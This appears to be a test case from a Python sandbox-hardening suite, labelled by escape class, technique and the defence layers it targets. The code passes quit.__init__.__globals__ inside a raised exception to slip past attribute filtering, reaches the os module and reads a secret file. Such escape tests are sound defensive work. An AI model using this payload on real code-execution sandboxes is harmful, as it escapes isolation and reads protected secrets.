# class: object graph walk
# technique: a forbidden attribute in what is raised
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
try:
    raise KeyError(quit.__init__.__globals__)
except KeyError as error:
    g = error.args[0]
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
